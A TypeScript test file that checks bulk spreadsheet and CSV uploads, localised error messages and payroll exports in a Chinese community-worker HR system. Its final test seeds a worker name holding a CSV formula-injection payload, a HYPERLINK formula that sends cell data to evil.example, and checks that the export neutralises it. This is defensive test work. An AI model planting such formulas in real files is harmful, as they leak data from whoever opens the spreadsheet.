import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { nationalIdFor, seedWorker } from '../support/fixtures.ts';
import { type Harness, seedOrgTree, startHarness } from '../support/harness.ts';
import { excelCsv, gbkCsv, XLSX, xlsxOf } from '../support/spreadsheets.ts';
import type { WorkerRecord } from '#shared/domain/workers.ts';

/**
 * Every bulk upload takes .xlsx and CSV (UTF-8 with BOM, CRLF, trailing empty line; GBK) with
 * Chinese headers; workers are named by 身份证号; unknown or missing columns are refused by name
 * before any row is checked.
 */
let h: Harness;
let hr: Awaited<ReturnType<Harness['client']>>;
const C1 = 'qth/xinxing/hongqi/c1';
const G1 = 'qth/xinxing/hongqi/c1/g1';
const G2 = 'qth/taoshan/taoxi/c2/g1';
const workers: WorkerRecord[] = [];

const xlsx = async (path: string, rows: (string | number | null)[][]) =>
  hr.post(path, undefined, { raw: await xlsxOf(rows), contentType: XLSX });
const csv = (path: string, lines: string[]) => hr.post(path, undefined, { raw: excelCsv(lines) });
const inputsOf = async (workerId: string, period: string) =>
  (await hr.get(`/v1/evaluation-inputs?workerId=${workerId}&period=${period}`)).body;

beforeAll(async () => {
  h = await startHarness(); // 2026-03-02
  ({ hr } = await seedOrgTree(h));
  for (let i = 0; i < 4; i++) workers.push(await seedWorker(h, { name: `社工${i}`, org: G1 }));
}, 120_000);
afterAll(async () => h?.stop());

describe('training attendance uploads', () => {
  let eventId: string;
  beforeAll(async () => {
    const event = await hr.post('/v1/training-events', {
      title: '社区微课堂',
      hours: 4,
      level: 'community',
      org: C1,
      date: '2026-02-23',
    });
    expect(event.status, event.text).toBe(201);
    eventId = event.body.id;
  });

  it('takes an .xlsx with Chinese headers, naming workers by 身份证号', async () => {
    const res = await xlsx(`/v1/training-events/${eventId}/attendance`, [
      ['姓名', '身份证号', '学时'],
      [workers[0]!.name, workers[0]!.nationalId, 2],
      [workers[1]!.name, workers[1]!.nationalId, null],
    ]);
    expect(res.status, res.text).toBe(201);
    expect(res.body).toMatchObject({ recorded: 2, attendees: 2 });
    const list = await hr.get(`/v1/training-events/${eventId}/attendance`);
    const hours = Object.fromEntries(list.body.items.map((a: any) => [a.workerId, a.hours]));
    expect(hours).toEqual({ [workers[0]!.id]: 2, [workers[1]!.id]: 4 });
  });

  it('takes Excel’s CSV (BOM, CRLF, trailing empty line) and GBK CSV', async () => {
    const utf8 = await csv(`/v1/training-events/${eventId}/attendance`, [
      '身份证号,姓名,学时',
      `${workers[2]!.nationalId},${workers[2]!.name},3`,
    ]);
    expect(utf8.status, utf8.text).toBe(201);
    expect(utf8.body.recorded).toBe(1);
    const gbk = await hr.post(`/v1/training-events/${eventId}/attendance`, undefined, {
      raw: gbkCsv(['姓名,身份证号', `${workers[3]!.name},${workers[3]!.nationalId}`]),
    });
    expect(gbk.status, gbk.text).toBe(201);
    expect(gbk.body).toMatchObject({ recorded: 1, attendees: 4 });
  });

  it('names unknown and missing columns before looking at any row', async () => {
    const res = await csv(`/v1/training-events/${eventId}/attendance`, [
      '姓名,身份号,课时',
      '张三,not-an-id,abc',
    ]);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('INVALID_COLUMNS');
    expect(res.body.error.details.unknown).toEqual(['身份号', '课时']);
    expect(res.body.error.details.missingOneOf).toEqual([
      [
        { field: 'nationalId', label: '身份证号' },
        { field: 'workerId', label: '人员编号' },
      ],
    ]);
    expect(res.body.error.details.accepted).toContainEqual({ field: 'hours', label: '学时' });
  });

  it('refuses a 身份证号 no active worker holds, listing the row', async () => {
    const stranger = nationalIdFor('1980-01-01');
    const res = await csv(`/v1/training-events/${eventId}/attendance`, [
      '身份证号',
      workers[0]!.nationalId,
      stranger,
    ]);
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('UNKNOWN_WORKERS');
    expect(res.body.error.details).toEqual([{ row: 2, nationalId: expect.stringMatching(/\*/) }]);
  });
});

describe('evaluation input uploads, every kind as .xlsx and CSV', () => {
  const kinds = [
    {
      kind: 'poll',
      header: ['姓名', '身份证号', '考核期间', '测评得分'],
      cells: ['92.5'],
      expected: { poll: { score: 92.5 } },
    },
    {
      kind: 'departments',
      header: ['姓名', '身份证号', '考核期间', '评价部门', '评价得分'],
      cells: ['民政局', '88'],
      expected: { departments: { scores: { 民政局: 88 } } },
    },
    {
      kind: 'duty',
      header: ['姓名', '身份证号', '考核期间', '网格巡查次数', '入户走访次数'],
      cells: ['20', '35'],
      expected: { duty: { gridPatrols: 20, householdVisits: 35 } },
    },
    {
      kind: 'work-orders',
      header: ['姓名', '身份证号', '考核期间', '派单数', '办结数', '满意数'],
      cells: ['12', '11', '10'],
      expected: { workOrders: { assigned: 12, completed: 11, satisfied: 10 } },
    },
  ];
  for (const { kind, header, cells, expected } of kinds) {
    it(`${kind}`, async () => {
      const [a, b] = [workers[0]!, workers[1]!];
      const viaXlsx = await xlsx(`/v1/evaluation-inputs/${kind}`, [
        header,
        [a.name, a.nationalId, '2026-01', ...cells],
      ]);
      expect(viaXlsx.status, viaXlsx.text).toBe(200);
      expect(viaXlsx.body).toMatchObject({ kind, rows: 1, workers: 1 });
      const viaCsv = await csv(`/v1/evaluation-inputs/${kind}`, [
        header.join(','),
        [b.name, b.nationalId, '2026-01', ...cells].join(','),
      ]);
      expect(viaCsv.status, viaCsv.text).toBe(200);
      for (const worker of [a, b]) expect(await inputsOf(worker.id, '2026-01')).toMatchObject(expected);
    });
  }

  it('still takes internal worker ids and English headers', async () => {
    const res = await csv('/v1/evaluation-inputs/poll', [
      'workerId,period,score',
      `${workers[2]!.id},2026-01,70`,
    ]);
    expect(res.status, res.text).toBe(200);
    expect(await inputsOf(workers[2]!.id, '2026-01')).toMatchObject({ poll: { score: 70 } });
  });

  it('lists a malformed row by its spreadsheet line', async () => {
    const res = await xlsx('/v1/evaluation-inputs/poll', [
      ['身份证号', '考核期间', '测评得分'],
      [workers[0]!.nationalId, '2026-01', 90],
      [workers[1]!.nationalId, '2026-13', 101],
    ]);
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ row: 2, line: 3, path: 'period' }),
        expect.objectContaining({ row: 2, line: 3, path: 'score' }),
      ]),
    );
  });
});

describe('transfer and score uploads', () => {
  it('transfers from an .xlsx with Chinese headers and pay in 元', async () => {
    const [a, b] = [nationalIdFor('1985-09-09'), nationalIdFor('1986-10-10')];
    const res = await xlsx('/v1/transfers?effectiveOn=2026-03-01', [
      ['身份证号', '姓名', '所在单位', '现月工资（元）', '岗位', '学历', '是否党员'],
      [a, '李四', G1, '3500.00', 'staff', 'college', '是'],
      [b, '王五', G1, 3000, null, 'high-school', '否'],
    ]);
    expect(res.status, res.text).toBe(201);
    expect(res.body.persons.map((p: any) => [p.name, p.previousPayFen ?? p.currentMonthlyPayFen])).toEqual([
      ['李四', 350_000],
      ['王五', 300_000],
    ]);
  });

  it('transfers from Excel’s CSV with Chinese headers', async () => {
    const res = await csv('/v1/transfers?effectiveOn=2026-03-01', [
      '身份证号,姓名,所在单位,现月工资（元）,学历',
      `${nationalIdFor('1987-01-02')},赵六,${G2},3100.5,college`,
    ]);
    expect(res.status, res.text).toBe(201);
    expect(res.body.persons).toHaveLength(1);
  });

  it('records written scores from .xlsx and CSV headed 姓名,身份证号,笔试成绩', async () => {
    const opened = await hr.post('/v1/recruitments', { title: '社区工作者招聘', org: C1, places: 1 });
    expect(opened.status, opened.text).toBe(201);
    const r = opened.body.id;
    const people = [nationalIdFor('1996-04-01'), nationalIdFor('1996-05-01')];
    for (const nationalId of people) {
      const res = await hr.post(`/v1/recruitments/${r}/candidates`, {
        nationalId,
        name: '候选人',
        education: 'college',
        politicalRecordClear: true,
        meetsHealthRequirement: true,
        hasLocalResidence: true,
      });
      expect(res.status, res.text).toBe(201);
    }
    expect((await hr.post(`/v1/recruitments/${r}/stage`, { to: 'written-exam' })).status).toBe(200);
    const missing = await csv(`/v1/recruitments/${r}/scores`, ['姓名,身份证号', `甲,${people[0]}`]);
    expect(missing.status).toBe(400);
    expect(missing.body.error.code).toBe('INVALID_COLUMNS');
    expect(missing.body.error.details.missingOneOf).toEqual([
      [
        { field: 'written', label: '笔试成绩' },
        { field: 'interview', label: '面试成绩' },
      ],
    ]);
    const viaXlsx = await xlsx(`/v1/recruitments/${r}/scores`, [
      ['姓名', '身份证号', '笔试成绩'],
      ['甲', people[0]!, 81.5],
    ]);
    expect(viaXlsx.status, viaXlsx.text).toBe(200);
    const viaCsv = await csv(`/v1/recruitments/${r}/scores`, [
      '姓名,身份证号,笔试成绩',
      `乙,${people[1]},77`,
    ]);
    expect(viaCsv.status, viaCsv.text).toBe(200);
    const candidates = (await hr.get(`/v1/recruitments/${r}/candidates`)).body.items;
    expect(candidates.map((c: any) => c.scores.written).sort()).toEqual([77, 81.5]);
  });

  it('takes a multipart form upload with the file in "file"', async () => {
    const form = new FormData();
    form.append(
      'file',
      new Blob([excelCsv(['身份证号,考核期间,测评得分', `${workers[3]!.nationalId},2026-02,66`])], {
        type: 'text/csv',
      }),
      '测评.csv',
    );
    const res = await fetch(`${h.baseUrl}/v1/evaluation-inputs/poll`, {
      method: 'POST',
      headers: { authorization: `Bearer ${hr.token}` },
      body: form,
    });
    expect(res.status, await res.clone().text()).toBe(200);
    expect(await inputsOf(workers[3]!.id, '2026-02')).toMatchObject({ poll: { score: 66 } });
  });
});

describe('messages in Chinese by default, English on request', () => {
  it('zod’s own messages and the catalogue’s follow Accept-Language', async () => {
    const zh = await hr.get('/v1/stats');
    expect(zh.status).toBe(400);
    expect(zh.headers.get('content-language')).toBe('zh-CN');
    expect(zh.body.error).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: '请求内容不符合要求，详见 details',
    });
    expect(zh.body.error.details).toContainEqual(
      expect.objectContaining({ path: 'org', message: '必填项缺失' }),
    );
    const en = await hr.get('/v1/stats', { headers: { 'accept-language': 'en-GB,en;q=0.9' } });
    expect(en.headers.get('content-language')).toBe('en');
    expect(en.body.error).toMatchObject({ code: 'VALIDATION_FAILED', message: 'The request is invalid' });
    expect(en.body.error.details).toContainEqual(
      expect.objectContaining({ path: 'org', message: 'Required' }),
    );

    const missing = await hr.get('/v1/workers/w_nobody');
    expect(missing.status).toBe(404);
    expect(missing.body.error).toMatchObject({ code: 'NOT_FOUND', message: '社区工作者 w_nobody 不存在' });
    const missingEn = await hr.get('/v1/workers/w_nobody', { headers: { 'accept-language': 'en' } });
    expect(missingEn.body.error.message).toBe('worker w_nobody does not exist');
  });

  it('row messages of an upload come in the caller’s language', async () => {
    const rows = ['考核期间,测评得分,身份证号', '2026-01,90,'];
    const zh = await csv('/v1/evaluation-inputs/poll', rows);
    expect(zh.body.error.message).toBe('1 行数据有误，未保存任何数据');
    expect(zh.body.error.details[0]).toMatchObject({ row: 1, message: '请填写人员编号或身份证号' });
    const en = await hr.post('/v1/evaluation-inputs/poll', undefined, {
      raw: excelCsv(rows),
      headers: { 'accept-language': 'en' },
    });
    expect(en.body.error.details[0]).toMatchObject({
      row: 1,
      message: 'give workerId or nationalId (身份证号)',
    });

    const columns = await csv('/v1/evaluation-inputs/poll', ['姓名,分值', '甲,1']);
    expect(columns.body.error.message).toContain('无法识别的列：分值');
    expect(columns.body.error.message).toContain('缺少的列：考核期间、测评得分');
  });
});

describe('exports neutralise formulas (issue 13, defect 6)', () => {
  it('a worker named =HYPERLINK(…) comes back from the payroll CSV as text, cell by cell', async () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"工资单")';
    const worker = await seedWorker(h, { name: evil, org: G1 });
    const res = await hr.get(`/v1/payroll/2026-02?org=${encodeURIComponent(C1)}`);
    expect(res.status, res.text).toBe(200);
    const [header, ...records] = parse(res.text, { bom: true }) as string[][];
    const row = records.find((r) => r[header!.indexOf('worker_id')] === worker.id);
    expect(row).toBeDefined();
    expect(row![header!.indexOf('name')]).toBe(`'${evil}`);
    expect(row![header!.indexOf('org')]).toBe(G1);
    // No other cell of the export starts a formula either.
    for (const cells of [header!, ...records])
      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
  });
});
